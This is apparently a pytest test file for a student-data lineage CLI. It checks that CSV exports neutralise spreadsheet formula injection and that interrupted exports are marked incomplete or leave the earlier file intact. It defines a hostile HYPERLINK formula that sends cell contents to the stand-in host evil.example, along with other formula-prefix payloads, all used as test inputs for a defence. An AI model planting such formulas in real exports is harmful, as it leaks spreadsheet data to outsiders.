"""Every CSV the product writes is safe to open in a spreadsheet, and an export that stops
part-way never looks complete (``lineage impact``).

The renderers are checked on hand-built rows; ``impact`` and ``inventory`` through the CLI
against the real graph (Riverside). The lost database mid-stream is a generator around the real
answer that raises :class:`DatabaseUnavailable` after two students, as the store does when the
server goes away.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from lineage.cli import main
from lineage.core.errors import DatabaseUnavailable
from lineage.questions import datasets as answers
from lineage.render.tables import (
    FORMULA_PREFIXES,
    INCOMPLETE,
    atomic_file,
    csv_cell,
    render_csv,
)
from tests.helpers import load_riverside

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"RouteCo")'


def run(env, *args):
    return CliRunner().invoke(main, list(args), env=env)


@pytest.fixture(scope="module")
def riverside(store):
    load_riverside(store)
    return store


def _read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- the cells --------------------------------------------------------------------------------
@pytest.mark.parametrize("text", ["=1+2", "+1", "-1", "@SUM(A1:A9)", "\tx", "\rx", EVIL,
                                  "\uff1dcmd"])
def test_formula_prefixes_get_a_quote(text: str) -> None:
    assert csv_cell(text) == "'" + text
    assert csv_cell([text, "b"]) == "'" + text + "; b"  # the cell as a whole


@pytest.mark.parametrize("value", ["Student Name", "2024-06-01", "", None, 12, "a=b", "x-1",
                                   "'quoted"])
def test_ordinary_cells_are_unchanged(value) -> None:
    assert csv_cell(value) == ("" if value is None else str(value))


def test_render_csv_neutralises_every_cell() -> None:
    rows = [{"a": EVIL, "b": ["-2", "Date of Birth"]}, {"a": "@x", "b": None}]
    text = render_csv(rows, ["a", "b"])
    assert _read_csv(text) == [["a", "b"], ["'" + EVIL, "'-2; Date of Birth"], ["'@x", ""]]
    assert all(not cell.startswith(FORMULA_PREFIXES)
               for row in _read_csv(text) for cell in row)


def test_atomic_file_leaves_nothing_when_interrupted(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("the previous export\n")
    with pytest.raises(RuntimeError), atomic_file(target) as fh:
        fh.write("half of a new export\n")
        raise RuntimeError("lost")
    assert target.read_text() == "the previous export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]
    with atomic_file(target) as fh:
        fh.write("complete\n")
    assert target.read_text() == "complete\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


# -- the CLI against the graph ------------------------------------------------------------------
def test_inventory_csv_neutralises_names_from_the_graph(riverside, env) -> None:
    riverside.write_text("MATCH (a:Actor {id: 'routeco'}) SET a.name = $name", name=EVIL)
    try:
        r = run(env, "inventory", "--format", "csv")
    finally:
        riverside.write_text("MATCH (a:Actor {id: 'routeco'}) SET a.name = 'RouteCo'")
    assert r.exit_code == 0, r.output
    rows = _read_csv(r.stdout)
    recipient = rows[0].index("recipient")
    names = [row[recipient] for row in rows[1:]]
    assert "'" + EVIL in names and EVIL not in names
    assert all(not c.startswith(FORMULA_PREFIXES) for row in rows for c in row)


def _cut_after(n: int, rows_seen: list):
    """``answers.impact`` that streams the real rows and loses the database after ``n``."""
    real = answers.impact

    def impact(store, **kw):
        for i, row in enumerate(real(store, **kw)):
            if i == n:
                raise DatabaseUnavailable(store.uri, "ServiceUnavailable")
            rows_seen.append(row)
            yield row
    return impact


def test_impact_csv_cut_short_ends_with_the_marker_and_exits_3(riverside, env, monkeypatch):
    full = run(env, "impact", "--actor", "routeco", "--format", "csv")
    assert full.exit_code == 0, full.output
    assert INCOMPLETE not in full.stdout
    assert len(_read_csv(full.stdout)) == 1 + 303
    seen: list = []
    monkeypatch.setattr(answers, "impact", _cut_after(2, seen))
    r = run(env, "impact", "--actor", "routeco", "--format", "csv")
    assert r.exit_code == 3, r.output
    lines = r.stdout.splitlines()
    assert lines[:3] == full.stdout.splitlines()[:3]  # header and the two students
    assert len(lines) == 4
    assert lines[-1] == (f"{INCOMPLETE} stopped after 2 students; database unreachable at "
                         f"{env['NEO4J_URI']} (ServiceUnavailable)")
    assert _read_csv(lines[-1])[0] == [lines[-1]]  # one cell for a CSV reader
    assert "error: database unreachable" in r.stderr
    assert "Traceback" not in r.output


@pytest.mark.parametrize("fmt", ["json", "table"])
def test_impact_json_and_table_cut_short_say_so_too(riverside, env, monkeypatch, fmt):
    monkeypatch.setattr(answers, "impact", _cut_after(1, []))
    r = run(env, "impact", "--actor", "routeco", "--format", fmt)
    assert r.exit_code == 3, r.output
    assert r.stdout.splitlines()[-1].startswith(f"{INCOMPLETE} stopped after 1 students;")
    if fmt == "json":
        with pytest.raises(json.JSONDecodeError):
            json.loads(r.stdout)


def test_impact_out_file_is_written_whole_or_not_at_all(riverside, env, monkeypatch, tmp_path):
    out = tmp_path / "notice.csv"
    r = run(env, "impact", "--actor", "routeco", "--format", "csv", "--out", str(out))
    assert r.exit_code == 0, r.output
    complete = out.read_text()
    assert len(_read_csv(complete)) == 1 + 303 and INCOMPLETE not in complete
    assert f"wrote {out} (303 students)" in r.stderr
    monkeypatch.setattr(answers, "impact", _cut_after(5, []))
    r = run(env, "impact", "--actor", "routeco", "--format", "csv", "--out", str(out))
    assert r.exit_code == 3, r.output
    assert out.read_text() == complete  # the earlier, complete export is untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["notice.csv"]
    assert r.stdout == ""


def test_impact_csv_neutralises_element_names(riverside, env, monkeypatch):
    def impact(store, **kw):
        yield {"student": "ab12", "elements": [EVIL, "Student Name"], "first_date": "2024-01-01",
               "last_date": None, "datasets": ["@routes", "-x"]}
    monkeypatch.setattr(answers, "impact", impact)
    r = run(env, "impact", "--actor", "routeco", "--format", "csv")
    assert r.exit_code == 0, r.output
    assert _read_csv(r.stdout) == [
        ["student", "elements", "first_date", "last_date", "datasets"],
        ["ab12", "'" + EVIL + "; Student Name", "2024-01-01", "", "'@routes; -x"]]
